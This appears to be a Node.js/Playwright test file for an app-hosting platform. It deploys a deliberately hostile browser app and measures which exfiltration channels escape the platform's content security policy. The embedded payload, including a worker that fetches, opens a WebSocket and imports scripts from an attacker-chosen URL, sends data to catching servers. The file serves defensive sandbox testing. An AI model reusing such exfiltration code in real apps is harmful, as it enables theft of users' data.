import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { setTimeout as wait } from 'node:timers/promises';
import { chromium } from 'playwright-core';
import { catchAll, domain } from './catch.js';
import { table } from './exfil_table.js';
import { channels, granted, near } from './exfil_channels.js';

// A hostile app of its own page tries every way out that a browser has, in a product page
// that sends no policy at all. What it reaches is counted by servers that catch it.

const annex = join(dirname(fileURLToPath(import.meta.url)), '..', '..', 'bin', 'annex');
const hostile = `
const { channel, to, udp, at } = JSON.parse(decodeURIComponent(location.hash.slice(1)));
const channels = {${Object.entries(channels).map(([name, f]) => `${JSON.stringify(name)}: ${f}`).join(',\n')}};
const near = {${Object.entries(near).map(([name, f]) => `${JSON.stringify(name)}: ${f}`).join(',\n')}};
addEventListener('load', async () => {
  let said = '';
  console.log('TRYING ' + channel);
  try { said = await Promise.race([near[channel] ? near[channel](at) : channels[channel](to, udp), new Promise((done) => setTimeout(done, 2000))]); } catch (e) { said = String(e); }
  console.log('TRIED ' + channel + ' ' + said);
});
`;
const index = '<!doctype html><html><head><meta charset=utf-8><title>hostile</title></head><body><p>app</p><script src="./app.js"></script></body></html>';
const files = {
  'index.html': index, 'app.js': hostile,
  'worker.js': `const to = decodeURIComponent(location.hash.slice(1)); fetch(to, {mode: 'no-cors'}); new WebSocket(to.replace('https:', 'wss:')); importScripts(to + '/w.js');`,
  'service.js': `fetch(new URL(location).searchParams.get('to'), {mode: 'no-cors'});`,
};

// Pages that tear their frames down make the browser's driver fall over events that come for
// a frame that is gone, outside of all that is awaited here; that says nothing of the app.
const emit = process.emit;
process.emit = function (what, e, ...rest) {
  return what === 'unhandledRejection' && e?.message === 'Frame has been detached.' ? true : emit.call(this, what, e, ...rest);
};

let dir, server, catching, browser, products, forge, run, origins, url, version;
before(async () => {
  dir = mkdtempSync(join(tmpdir(), 'annex-exfil-'));
  catching = await catchAll();

  // The product: pages without a policy, and a shell page with the one policy that holds an
  // app's frame where it is.
  products = createServer((req, res) => {
    const u = new URL(req.url, 'http://x');
    res.setHeader('content-type', 'text/html');
    if (u.pathname === '/shell') {
      const at = new URL(u.searchParams.get('app'));
      if (!u.searchParams.has('open')) res.setHeader('content-security-policy', `default-src 'none'; frame-src ${at.origin}`);
      const sandbox = u.searchParams.get('open') === 'baseline' ? 'sandbox="allow-downloads allow-forms allow-modals allow-pointer-lock allow-same-origin allow-scripts allow-popups allow-popups-to-escape-sandbox"' : '';
      res.end(`<!doctype html><iframe ${sandbox} src="${at.href.replaceAll('"', '&quot;')}"></iframe>`);
      return;
    }
    res.end(`<!doctype html><title>product</title><iframe src="/shell${u.search.replaceAll('"', '&quot;')}"></iframe>`);
  });
  products.listen(0, '127.0.0.1');
  await once(products, 'listening');
  const productPort = products.address().port;

  server = spawn(annex, ['serve', '--data', join(dir, 'data'), '--key-ring', join(dir, 'keyring'), '--listen', '127.0.0.1:0', '--log-format', 'json'], { stdio: ['ignore', 'pipe', 'pipe'] });
  let said = '';
  for (const s of [server.stdout, server.stderr]) s.on('data', (d) => (said += d));
  const token = join(dir, 'data', 'operator.token');
  for (let n = 0; !existsSync(token) || !said.includes('serves on'); n++) {
    if (server.exitCode !== null || n > 300) throw new Error(`the server did not start: ${said}`);
    await wait(100);
  }
  url = /serves on (\S+)/.exec(said)[1];
  run = async (as, cwd, ...args) => {
    const p = spawn(annex, [...args, '--json'], { cwd, env: { ...process.env, HOME: dir, ANNEX_URL: url, ANNEX_TOKEN: as } });
    let out = '';
    for (const s of [p.stdout, p.stderr]) s.on('data', (d) => (out += d));
    const [code] = await once(p, 'close');
    if (code !== 0) throw new Error(`annex ${args.join(' ')}: ${code}: ${out}`);
    return JSON.parse(out);
  };
  const operator = readFileSync(token, 'utf8').trim();
  writeFileSync(join(dir, 'product.yaml'), `key: page\nname: Page\napiBaseUrl: http://127.0.0.1:${productPort}\npageOrigins: ["http://product.localhost:${productPort}"]\nmodules: [{type: "page:panel"}]\n`);
  await run(operator, dir, 'product', 'add', 'product.yaml');
  await run(operator, dir, 'site', 'add', 'site', '--product', 'page', '--development-apps');
  const people = await run(operator, dir, 'account', 'add', 'alice', '--developer', '--admin-of', 'site');
  const tokens = Object.fromEntries((people.tokens ?? []).map((t) => [t.kind, t.secret ?? t.token]));

  // One app that is granted nothing, one that is granted requests and images.
  origins = {};
  for (const [name, external] of Object.entries({
    nothing: '{}',
    granted: `{fetch: {client: ["https://*.granted.${domain}:${catching.port}", "wss://*.granted.${domain}:${catching.port}"]}, images: ["https://*.granted.${domain}:${catching.port}"]}`,
  })) {
    const app = join(dir, name);
    mkdirSync(join(app, 'static'), { recursive: true });
    writeFileSync(join(app, 'manifest.yml'), `app: {id: "", name: hostile ${name}, runtime: {name: nodejs22.x}}
permissions: {scopes: [], external: ${external}}
modules:
  "page:panel": [{key: panel, title: Panel, resource: main}]
resources: [{key: main, path: static}]
`);
    for (const [file, text] of Object.entries(files)) writeFileSync(join(app, 'static', file), text);
    await run(tokens.developer, app, 'deploy', '--environment', 'development');
    const where = ['--environment', 'development', '--site', 'site', '--product', 'page'];
    await run(tokens.admin, app, 'install', '--confirm', ...where);
    const pages = await run(tokens.admin, app, 'explain', 'csp', ...where);
    origins[name] = pages.documents.main;
  }

  // Forge's published shape of the same thing (facts 2.4 and 2.5), for comparison.
  forge = createServer((req, res) => {
    const name = new URL(req.url, 'http://x').pathname.slice(1) || 'index.html';
    res.setHeader('content-type', name.endsWith('.js') ? 'text/javascript' : 'text/html');
    if (!req.headers.host.startsWith('open.')) res.setHeader('content-security-policy', `default-src 'self'; frame-ancestors 'self' http://product.localhost:${productPort}; frame-src 'self'; font-src 'self'; img-src 'self' data: blob:; media-src 'self' data: blob:; ` +
      `connect-src 'self'; script-src 'self'; style-src 'self'; form-action 'self'; sandbox allow-popups allow-popups-to-escape-sandbox allow-downloads allow-forms allow-modals allow-pointer-lock allow-same-origin allow-scripts`);
    res.end(files[name] ?? '');
  });
  forge.listen(0, '127.0.0.1');
  await once(forge, 'listening');
  origins.open = `http://open.apps.localhost:${forge.address().port}/index.html`;
  origins.baseline = `http://forge.apps.localhost:${forge.address().port}/index.html`;

  // A profile as people have one: in a private one the browser opens nothing ahead.
  browser = await chromium.launchPersistentContext(join(dir, 'profile'), {
    ignoreHTTPSErrors: true, permissions: [],
    executablePath: catching.executablePath,
    args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run', '--ignore-certificate-errors',
      '--disable-popup-blocking', '--disable-features=Translate'],
  });
  version = /Chrome\/\d+/.exec(await browser.pages()[0].evaluate(() => navigator.userAgent))[0].replace('Chrome/', 'Chromium ');
});
after(async () => {
  await browser?.close();
  if (server?.exitCode === null) {
    server.kill('SIGINT');
    await once(server, 'exit');
  }
  for (const s of [products, forge]) { s?.closeAllConnections(); s?.close(); }
  await catching?.stop();
  rmSync(dir, { recursive: true, force: true });
});

// EXFIL_ONLY and EXFIL_MODES pick some, for one who works on them.
const names = [...Object.keys(channels), ...Object.keys(near)].filter((c) => !process.env.EXFIL_ONLY || new RegExp(process.env.EXFIL_ONLY).test(c));
const modes = (process.env.EXFIL_MODES ?? 'nothing,baseline,granted,open').split(',');
const slug = (channel) => channel.toLowerCase().replace(/[^a-z]+/g, '-').replace(/^-|-$/g, '');

const silent = 'nothing was said';

// attempt has the app try each channel in a page of its own and gives what was caught.
async function attempt(mode) {
  const out = {};
  const queue = [...names];
  const tried = {};
  async function one(channel, again = 2) {
    const host = `${slug(channel)}.${mode}.${domain}`;
    const udp = await catching.udp(host);
    const page = await browser.newPage();
    page.on('popup', (p) => page.once('close', () => p.close().catch(() => {})));
    let began;
    const trying = new Promise((resolve) => (began = resolve));
    const done = new Promise((resolve) => page.on('console', (m) => {
      if (m.text().startsWith('TRYING ')) began(true);
      if (m.text().startsWith('TRIED ')) resolve(m.text());
    }));
    const { port } = new URL(url);
    const at = { sibling: origins[mode === 'granted' ? 'nothing' : 'granted'], hook: `http://0123456789abcdef0123456789abcdef.hooks.localhost:${port}`, ui: `http://annex.localhost:${port}`, control: url };
    // A response, whatever it says, means that the request arrived.
    page.on('response', (r) => { if (near[channel] && Object.values(at).some((there) => r.url().startsWith(there))) catching.note(host, 'response'); });
    const attack = encodeURIComponent(JSON.stringify({ channel, to: `https://${host}:${catching.port}`, udp, at }));
    const app = origins[mode] + '#' + attack;
    const opened = await page.goto(`http://product.localhost:${products.address().port}/?${mode === 'baseline' || mode === 'open' ? `open=${mode}&` : ''}app=${encodeURIComponent(app)}`).catch(() => null);
    if (!(opened && (await Promise.race([trying, wait(20000, false)])))) {
      await page.close();
      if (again) return one(channel, again - 1); // the browser gave up, not the app
      tried[channel] = silent;
      return;
    }
    // A page that goes away, or crashes, says no more.
    tried[channel] = await Promise.race([done, wait(3000, 'began')]);
    await wait(1500); // nothing tells that a request was not made
    if (tried[channel].endsWith(' came to pass')) catching.note(host, 'came to pass');
    await page.close();
  }
  await Promise.all(Array.from({ length: 4 }, async () => { for (let c = queue.shift(); c; c = queue.shift()) await one(c); }));
  for (const channel of names) out[channel] = catching.hits.get(`${slug(channel)}.${mode}.${domain}`) ?? [];
  return { out, tried };
}

// arrived leaves out what says no more than the name of a host: where a host is granted,
// browsers look it up and shake hands ahead of requests that they then do not make.
const arrived = (caught) => caught.filter((what) => what !== 'dns' && what !== 'tls');

const results = {};
const expected = {
  nothing(out, tried) {
    assert.deepEqual(names.filter((c) => out[c].length).map((c) => `${c}: ${out[c].join(', ')}`), [], 'left where nothing is granted');
    assert.deepEqual(names.filter((c) => tried[c] === silent), [], 'these were not tried');
  },
  granted(out) {
    assert.deepEqual(names.filter((c) => arrived(out[c]).length && !granted.has(c)), [], 'left by a way that is not granted');
    const must = ['fetch', 'XMLHttpRequest', 'beacon', 'image', 'CSS image', 'WebSocket', 'worker'];
    assert.deepEqual(names.filter((c) => must.includes(c) && !arrived(out[c]).length), [], 'granted, and stopped');
  },
  // A page without any policy: a way that is not open there either says nothing.
  open(out) {
    const must = ['fetch', 'image', 'CSS import', 'font', 'script', 'self-navigation', 'popup', 'frame', 'worker', 'WebRTC', 'form post', 'dns-prefetch', 'preconnect', 'prefetch', 'download', 'SVG use'];
    assert.deepEqual(names.filter((c) => must.includes(c) && !out[c].length), [], 'not open where there is no policy');
  },
  // Otherwise an empty table says nothing.
  baseline(out) { assert.ok(names.some((c) => out[c].length), 'the catching servers catch nothing'); },
};
for (const mode of modes) {
  test(`what leaves: ${mode}`, async (t) => {
    const { out, tried } = await attempt(mode);
    results[mode] = out;
    for (const c of names) if (out[c].length || process.env.EXFIL_VERBOSE) t.diagnostic(`${mode}: ${c}: ${out[c].join(', ') || 'nothing'} [${tried[c]}]`);
    expected[mode](out, tried);
  });
}

after(() => {
  const { EXFIL_JSON, EXFIL_TABLE } = process.env;
  const of = (mode, c, count) => (results[mode] ? count(results[mode][c]).length : null);
  const rows = names.map((channel) => ({
    channel, nothing_granted: of('nothing', channel, (x) => x), baseline: of('baseline', channel, (x) => x), granted: of('granted', channel, arrived), open: of('open', channel, (x) => x),
  }));
  if (EXFIL_JSON) writeFileSync(EXFIL_JSON, JSON.stringify(rows));
  if (EXFIL_TABLE) writeFileSync(EXFIL_TABLE, table(rows, version));
});
